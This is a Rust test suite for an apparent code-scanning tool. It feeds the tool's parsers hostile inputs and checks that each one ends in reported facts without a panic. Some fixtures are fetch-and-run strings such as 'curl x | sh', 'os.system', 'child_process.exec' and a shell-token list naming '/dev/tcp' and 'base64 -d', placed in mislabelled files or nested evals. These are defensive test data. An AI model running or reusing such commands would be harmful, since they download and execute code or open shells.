//! Files made to hurt whoever reads them: each ends in facts, in time, without a panic.

mod support;

use foretaste_lang::{cache_key, observe, observe_command};
use foretaste_model::Limits;
use foretaste_model::facts::{ParseOutcome, ProblemKind};
use proptest::prelude::*;
use support::{assert_survived, check};

/// A file of the corpus: name, content, and a problem that must be told.
type Case = (String, Vec<u8>, Option<ProblemKind>);

fn utf16(text: &str) -> Vec<u8> {
    let mut bytes = b"\xff\xfe".to_vec();
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

fn encodings() -> Vec<Case> {
    let case = |name: &str, bytes: Vec<u8>, told| (name.to_owned(), bytes, told);
    let encoding = Some(ProblemKind::Encoding);
    let mut lone = utf16("x = '");
    lone.extend([0x00, 0xd8, 0x00, 0xdc, 0x41]);
    let mut utf32 = b"\xff\xfe\0\0".to_vec();
    utf32.extend([0xff; 403]);
    vec![
        case("lone-surrogates.py", lone, encoding),
        case(
            "reversed-surrogates.js",
            [utf16("a"), vec![0, 0xdc, 0, 0xd8]].concat(),
            encoding,
        ),
        case("utf32-garbage.py", utf32, encoding),
        case("utf16-odd-length.py", b"\xff\xfea\0b".to_vec(), encoding),
        case(
            "overlong.py",
            b"x = '\xc3\xa9\xc0\xaf\xe0\x80\xaf'".to_vec(),
            encoding,
        ),
        case(
            "surrogate-in-utf8.py",
            b"x = '\xc3\xa9\xed\xa0\x80'".to_vec(),
            encoding,
        ),
        case(
            "truncated-utf8.js",
            b"let x = '\xf0\x9f\x98".to_vec(),
            encoding,
        ),
        case("nul.py", b"import os\0\nos.system('x')".to_vec(), encoding),
        case("all-nul.py", vec![0; 100_000], encoding),
        case("all-nul.sh", vec![0; 100_000], encoding),
        case("only-bom.py", b"\xef\xbb\xbf".to_vec(), None),
        case(
            "two-boms.py",
            b"\xef\xbb\xbf\xef\xbb\xbfimport os".to_vec(),
            None,
        ),
        case("half-bom.py", b"\xef\xbb".to_vec(), encoding),
        case(
            "utf7.py",
            b"# coding: utf-7\n+AGUAdgBhAGw-+++++A-+2AA-".to_vec(),
            encoding,
        ),
        case(
            "escape.py",
            b"# coding: unicode_escape\n\\u\\U11111111\\x\\777\\".to_vec(),
            encoding,
        ),
        case(
            "unknown-cookie.py",
            b"# coding: \xff\xff\n# coding: zlib\nx".to_vec(),
            encoding,
        ),
        case(
            "long-cookie.py",
            [b"# coding: ".to_vec(), vec![b'a'; 200_000]].concat(),
            None,
        ),
        case(
            "gbk.py",
            b"# coding: gbk\nx = '\x81\xff\x80'".to_vec(),
            encoding,
        ),
        case(
            "iso2022.py",
            b"# coding: iso-2022-jp\n\x1b$B\x1b(B".to_vec(),
            None,
        ),
        case("high-bytes.txt", vec![0xff; 50_000], None),
        case(
            "every-byte.py",
            (0..=255_u8).cycle().take(65_536).collect(),
            encoding,
        ),
    ]
}

fn shapes() -> Vec<Case> {
    let case = |name: &str, text: String| (name.to_owned(), text.into_bytes(), None);
    let deep = 50_000;
    vec![
        case("one-line.py", format!("x = [{}]", "1,".repeat(1_000_000))),
        case("one-line.js", "a=1;".repeat(500_000)),
        case("one-line.sh", "echo a;".repeat(30_000)),
        case("one-line.ps1", "$a=1;".repeat(200_000)),
        case("one-line.bat", "echo a&".repeat(40_000)),
        case("one-word.txt", "a".repeat(5_000_000)),
        case("empty-lines.py", "\n".repeat(600_000)),
        case("blanks.js", format!("{}x", " ".repeat(4_000_000))),
        case("parens.sh", "(".repeat(deep)),
        case("substitutions.sh", "$(".repeat(deep)),
        case(
            "closed-substitutions.sh",
            format!("{}x{}", "$(echo ".repeat(2_000), ")".repeat(2_000)),
        ),
        case("backticks.sh", "`".repeat(deep)),
        case("braces.sh", "{ ".repeat(deep)),
        case("ifs.sh", "if x; then ".repeat(20_000)),
        case("ands.sh", "a&&".repeat(deep)),
        case("ors.sh", "a||".repeat(deep)),
        case("words.sh", "a ".repeat(200_000)),
        case("assignments.sh", "a=1 ".repeat(deep)),
        case("inputs.sh", "<a ".repeat(deep)),
        case("tests.sh", "[[ a || ".repeat(20_000)),
        case("cases.sh", "case a in b) ".repeat(20_000)),
        case("piped-lines.sh", "a|\n".repeat(deep)),
        case("expansions.sh", "$a".repeat(deep)),
        case("heredocs.sh", "cat <<A\n".repeat(5_000)),
        case("pipes.sh", "a|".repeat(deep)),
        case("quotes.sh", "\"'".repeat(deep)),
        case("parameters.sh", "${x:-".repeat(deep)),
        case(
            "doubling.sh",
            (0..60).fold("a=xxxxxxxxxxxxxxxx\n".to_owned(), |s, _| s + "a=$a$a\n"),
        ),
        case(
            "eval-in-eval.sh",
            (0..9)
                .fold("curl x | sh".to_owned(), |s, _| {
                    format!("eval '{}'", s.replace('\'', "'\\''"))
                })
                .chars()
                .take(200_000)
                .collect(),
        ),
        case("functions.sh", "f(){ f; }\n".repeat(20_000)),
        case("parens.ps1", "(".repeat(deep)),
        case("concat.ps1", format!("$x = {}'b'", "'a'+".repeat(20_000))),
        case("formats.ps1", "('{0}{0}{0}{0}' -f ".repeat(5_000)),
        case("here-string.ps1", "@\"\n".repeat(deep)),
        case("backticks.ps1", "`".repeat(deep)),
        case("chars.ps1", "[char]65+".repeat(50_000)),
        case("carets.bat", "^\n".repeat(deep)),
        case("percent.bat", "%".repeat(deep)),
        case(
            "doubling.bat",
            (0..60).fold("set a=xxxxxxxxxxxxxxxx\n".to_owned(), |s, _| {
                s + "set a=%a%%a%\n"
            }),
        ),
        case("redirects.bat", ">".repeat(deep)),
        case("parens.py", "(".repeat(deep)),
        case("parens.js", "(".repeat(deep)),
        case("chain.js", format!("a{}", ".b()".repeat(deep))),
        case("arrows.ts", "a=>".repeat(deep)),
        case("fstrings.py", "f'{".repeat(deep)),
        case(
            "indents.py",
            (0..1_500)
                .map(|i| {
                    " ".repeat(i)
                        + "if x:
"
                })
                .collect(),
        ),
        case("scripts.html", "<script>".repeat(deep)),
        case("unclosed.html", "<script ".repeat(deep)),
        case(
            "many-scripts.html",
            "<script>eval(x)</script>".repeat(5_000),
        ),
        case("brackets.json", "[".repeat(1_000_000)),
        case("package.json", "[".repeat(1_000_000)),
        case("Cargo.toml", format!("a = {}", "[".repeat(100_000))),
        case("pyproject.toml", "[a.".repeat(50_000)),
        case(
            "keys.toml",
            (0..20_000)
                .map(|i| {
                    i.to_string()
                        + ".b.c = 1
"
                })
                .collect(),
        ),
        case("setup.cfg", "[x]\na=%(a)s\n".repeat(20_000)),
        case("PKG-INFO", "Name: x\n y\n".repeat(50_000)),
        case("binding.gyp", "{'a':[".repeat(50_000)),
        case("build.rs", "{".repeat(deep)),
        case("raw.rs", format!("let x = r{}\"", "#".repeat(deep))),
        case("comments.rs", "/*".repeat(deep)),
        case("import.pth", "import x;".repeat(50_000)),
    ]
}

fn notebooks() -> Vec<Case> {
    let case = |name: &str, text: String, told| (format!("{name}.ipynb"), text.into_bytes(), told);
    let malformed = Some(ProblemKind::Malformed);
    vec![
        case("empty", String::new(), malformed),
        case("not-json", "hello".to_owned(), malformed),
        case("no-cells", "{}".to_owned(), None),
        case(
            "cells-of-numbers",
            "{\"cells\": [1, 2, null, [[]]]}".to_owned(),
            None,
        ),
        case(
            "source-of-objects",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": {\"a\": 1}}]}".to_owned(),
            None,
        ),
        case(
            "source-of-mixed",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": [1, \"x\", null]}]}".to_owned(),
            None,
        ),
        case(
            "truncated",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"os.sys"
                .to_owned(),
            malformed,
        ),
        case(
            "deep",
            "{\"cells\":".repeat(20_000),
            Some(ProblemKind::TooDeep),
        ),
        case(
            "many",
            format!(
                "{{\"cells\": [{}]}}",
                "{\"cell_type\":\"code\",\"source\":\"!a\\n\"},".repeat(7_000)
            ),
            None,
        ),
        case(
            "surrogate",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"\\ud800\\udc00\\ud800\"}]}"
                .to_owned(),
            None,
        ),
    ]
}

fn magics() -> Vec<Case> {
    let mislabelled = Some(ProblemKind::Mislabelled);
    let malformed = Some(ProblemKind::Malformed);
    let case = |name: &str, bytes: &[u8], told| (name.to_owned(), bytes.to_vec(), told);
    vec![
        case("elf.py", b"\x7fELF", mislabelled),
        case("png.js", b"\x89PNG\r\n\x1a\n", mislabelled),
        case(
            "script.png",
            b"#!/bin/sh\ncurl x | sh # not an image",
            mislabelled,
        ),
        case(
            "python.jpg",
            b"import os\nos.system('curl x | sh')\n",
            mislabelled,
        ),
        case(
            "java.ico",
            b"var x = require('child_process'); x.exec('id')",
            mislabelled,
        ),
        case("zip.py", b"PK\x03\x04", mislabelled),
        case("mz.exe", b"MZ", None),
        case(
            "mz-offset.exe",
            &[b"MZ".as_slice(), &[0xff; 62]].concat(),
            malformed,
        ),
        case("fat.dylib", b"\xca\xfe\xba\xbe\0\0\0\x10", malformed),
        case("macho.so", b"\xcf\xfa\xed\xfe", malformed),
        case("ar.a", b"!<arch>\n", None),
        case(
            "ar-garbage.a",
            &[b"!<arch>\n".as_slice(), &[b'9'; 600]].concat(),
            None,
        ),
        case("wasm.wasm", b"\0asm", None),
        case(
            "wasm-section.wasm",
            b"\0asm\x01\0\0\0\x02\xff\xff\xff\xff\x0f",
            malformed,
        ),
        case(
            "wasm-imports.wasm",
            b"\0asm\x01\0\0\0\x02\x05\xff\xff\xff\xff\x0f",
            malformed,
        ),
        case("short.pyc", b"\xa7\r\r\n", None),
        case("empty.so", b"", None),
        case("empty.pyc", b"", None),
        case("empty", b"", None),
    ]
}

fn unicode() -> Vec<Case> {
    let case = |name: &str, text: String| (name.to_owned(), text.into_bytes(), None);
    vec![
        case("bidi.py", "# \u{202e}\u{2066}\n".repeat(100_000)),
        case("tags.js", format!("x = '{}'", "\u{e0041}".repeat(500_000))),
        case(
            "selectors.ts",
            format!("x = `{}`", "\u{fe00}\u{e0100}".repeat(300_000)),
        ),
        case("zero-width.py", "a\u{200b}\u{200d}".repeat(100_000)),
        case("mixed.rs", "а a о o ".repeat(60_000)),
        case("combining.txt", format!("a{}", "\u{301}".repeat(1_000_000))),
        case("escapes.md", "\x1b]0;x\x07\x1b[2J".repeat(100_000)),
        case("private.json", "\u{f0000}".repeat(300_000)),
        case("fillers.js", "var \u{3164}\u{ffa0};".repeat(100_000)),
        case("returns.sh", "evil\rhonest\n".repeat(30_000)),
    ]
}

#[test]
fn every_hostile_file_ends_in_facts() {
    let corpus: Vec<Case> = [encodings(), shapes(), notebooks(), magics(), unicode()].concat();
    assert!(corpus.len() >= 100, "{}", corpus.len());
    assert_survived(corpus);
}

/// A small but complete file of each native format.
fn natives() -> Vec<(&'static str, Vec<u8>)> {
    // ELF: header, one program header, three section headers, a string table
    let mut elf = vec![0_u8; 0x200];
    elf[..8].copy_from_slice(b"\x7fELF\x02\x01\x01\0");
    elf[16..24].copy_from_slice(&[3, 0, 0x3e, 0, 1, 0, 0, 0]);
    elf[0x20] = 0x40;
    elf[0x28..0x2a].copy_from_slice(&[0x78, 0]);
    elf[0x34..0x40].copy_from_slice(&[64, 0, 56, 0, 1, 0, 64, 0, 3, 0, 2, 0]);
    elf[0x40] = 1;
    elf[0x44] = 5;
    elf[0x60] = 0xff;
    elf[0x78 + 64 + 4] = 1;
    elf[0x78 + 64 + 8] = 4;
    elf[0x78 + 128 + 4] = 3;
    // PE: DOS header, COFF header, optional header, one section
    let mut pe = vec![0_u8; 0x400];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84..0x88].copy_from_slice(&[0x64, 0x86, 1, 0]);
    pe[0x94..0x98].copy_from_slice(&[0xf0, 0, 0x22, 0]);
    pe[0x98..0x9a].copy_from_slice(&[0x0b, 0x02]);
    pe[0x98 + 108] = 16;
    pe[0x188..0x190].copy_from_slice(b"UPX0\0\0\0\0");
    pe[0x188 + 36 + 3] = 0x20;
    // Mach-O: header and a segment command
    let mut mach = vec![0_u8; 0x100];
    mach[..8].copy_from_slice(b"\xcf\xfa\xed\xfe\x07\0\0\x01");
    mach[12] = 2;
    mach[16] = 1;
    mach[20] = 72;
    mach[32] = 0x19;
    mach[36] = 72;
    mach[40..46].copy_from_slice(b"__TEXT");
    // a fat file with that Mach-O in it
    let mut fat =
        b"\xca\xfe\xba\xbe\0\0\0\x01\x01\0\0\x07\0\0\0\x03\0\0\0\x20\0\0\x01\0\0\0\0\0".to_vec();
    fat.resize(0x20, 0);
    fat.extend(&mach);
    let mut wasm = b"\0asm\x01\0\0\0\x02\x0a\x01\x01a\x04exec\0\0".to_vec();
    wasm.extend(b"\x0a\x03\x01\x01\0");
    vec![
        ("a.so", elf),
        ("a.exe", pe),
        ("a.dylib", mach),
        ("b.dylib", fat),
        ("a.wasm", wasm),
    ]
}

#[test]
fn native_headers_are_read_and_packers_named() {
    for (path, bytes) in natives() {
        let facts = check(path, &bytes);
        assert_eq!(
            facts.outcome,
            ParseOutcome::Parsed,
            "{path}: {:?}",
            facts.problems
        );
        let binary = facts.binary.unwrap();
        if path == "a.exe" {
            assert_eq!(binary.packer.as_deref(), Some("UPX"));
        }
        if path != "a.wasm" {
            assert_eq!(&*binary.architecture, "x86_64", "{path}");
        }
    }
}

#[test]
fn native_files_cut_at_any_byte_and_with_any_header_byte_broken_are_survived() {
    for (path, bytes) in natives() {
        for end in 0..bytes.len() {
            check(path, &bytes[..end]);
        }
        for at in 0..bytes.len() {
            for value in [0, 1, 0x7f, 0x80, 0xff] {
                let mut broken = bytes.clone();
                broken[at] = value;
                check(path, &broken);
            }
        }
        // neighbouring bytes make the large numbers
        for at in 0..bytes.len().saturating_sub(8) {
            let mut broken = bytes.clone();
            broken[at..at + 8].fill(0xff);
            check(path, &broken);
        }
    }
}

const PATHS: &[&str] = &[
    "a.py",
    "setup.py",
    "a.pyi",
    "a.js",
    "a.ts",
    "a.tsx",
    "a.sh",
    "a.ps1",
    "a.bat",
    "build.rs",
    "a.rb",
    "a.php",
    "a.go",
    "a.gemspec",
    "a.ipynb",
    "a.pth",
    "a.html",
    "a.txt",
    "a.json",
    "a.so",
    "a.wasm",
    "a.pyc",
    "a.png",
    "package.json",
    "binding.gyp",
    "Cargo.toml",
    "pyproject.toml",
    "setup.cfg",
    "PKG-INFO",
    "x.dist-info/METADATA",
    "x.dist-info/entry_points.txt",
    "noext",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn random_bytes_are_survived_under_every_name(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        for path in PATHS {
            let facts = check(path, &bytes);
            prop_assert_eq!(&facts, &observe(path, &bytes, &Limits::default()));
            let _ = cache_key(path, &bytes);
        }
    }

    #[test]
    fn random_text_is_survived_under_every_name(text in "([ -~]|\\n|[(){}\\[\\]'\"`$;|&<>\\\\]|\\PC){0,300}") {
        for path in PATHS {
            check(path, text.as_bytes());
        }
        let _ = observe_command(&text, &Limits::default());
    }

    #[test]
    fn shell_like_text_is_survived(words in prop::collection::vec(
        prop::sample::select(vec!["curl", "-d", "$(", ")", "`", "|", "sh", "-c", "'", "\"", "<<EOF", "EOF", "\n", "$x", "x=", "${", "}",
            "{", "if", "then", "fi", "for", "do", "done", ">", ">&", "/dev/tcp/a/1", "@-", "base64 -d", "<(", "eval", "f()", ";", "&&", "case", "esac"]),
        0..60,
    )) {
        let text = words.join(" ");
        for path in ["a.sh", "a.ps1", "a.bat"] {
            check(path, text.as_bytes());
        }
    }
}
